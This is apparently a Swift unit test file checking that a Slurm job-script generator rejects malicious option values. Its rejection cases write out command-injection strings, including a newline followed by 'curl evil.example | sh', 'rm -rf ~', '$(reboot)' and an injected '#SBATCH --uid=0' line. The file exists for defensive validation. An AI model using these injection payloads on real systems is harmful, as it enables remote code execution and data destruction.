import XCTest
@testable import PriorMix

/// Issue 16 item 11: values written into `#SBATCH` lines are checked against what Slurm accepts,
/// so none can smuggle a shell command into a job script.
final class SlurmScriptTests: XCTestCase {
    private func script(partition: String? = "cpu", logs: String = "logs", memory: String = "8G", time: String = "12:00:00") -> SlurmScript {
        var script = SlurmScript(arguments: ["classify", "in", "-o", "out"], tasks: 4, executable: "/opt/priormix", logDirectory: logs)
        script.partition = partition
        script.memory = memory
        script.time = time
        return script
    }

    func testValuesSlurmAcceptsPass() throws {
        for memory in ["8G", "500M", "16000", "2T", "64g"] { XCTAssertNoThrow(try script(memory: memory).validate(), memory) }
        for time in ["30", "30:00", "12:00:00", "2-00", "2-12:00", "1-00:00:00", "UNLIMITED", "infinite"] {
            XCTAssertNoThrow(try script(time: time).validate(), time)
        }
        for partition in ["cpu", "gpu-a100", "short,long", "debug_q.1"] { XCTAssertNoThrow(try script(partition: partition).validate(), partition) }
        for logs in ["logs", "/scratch/user/run-1/logs", "../logs_%u"] { XCTAssertNoThrow(try script(logs: logs).validate(), logs) }
    }

    func testControlCharactersAndOtherFormatsAreRefusedNamingTheOption() {
        let bad: [(SlurmScript, String)] = [
            (script(partition: "cpu\ncurl evil.example | sh"), "--partition"),
            (script(partition: "cpu; rm -rf ~"), "--partition"),
            (script(logs: "logs\n#SBATCH --uid=0"), "--logs"),
            (script(logs: "my logs"), "--logs"),
            (script(logs: "$(reboot)"), "--logs"),
            (script(memory: "8G\nreboot"), "--mem"),
            (script(memory: "lots"), "--mem"),
            (script(time: "12:00:00\rreboot"), "--time"),
            (script(time: "noon"), "--time"),
        ]
        for (script, option) in bad {
            XCTAssertThrowsError(try script.validate(), option) { error in
                let text = "\(error)"
                XCTAssertTrue(text.contains(option), text)
                XCTAssertFalse(text.contains("\n"), "the message shows control characters escaped: \(text)")
                XCTAssertEqual((error as? PriorMixError)?.code, .usage)
            }
        }
    }

    func testCommandLineRefusesAnInjectedPartitionAndWritesNoScript() throws {
        try XCTSkipUnless(FileManager.default.isExecutableFile(atPath: priormixBinary), "priormix binary not built")
        let directory = try makeTemporaryDirectory(self)
        let (result, _) = try runProcess(priormixBinary, ["slurm", "--array", "2", "--scripts", directory + "/jobs", "--logs", directory + "/logs",
                                                          "--partition", "cpu\ntouch \(directory)/owned", "--", "classify", "in", "-o", "out"])
        XCTAssertEqual(result.status, 2, result.stderr)
        XCTAssertTrue(result.stderr.contains("--partition"), result.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: directory + "/jobs"))
    }
}
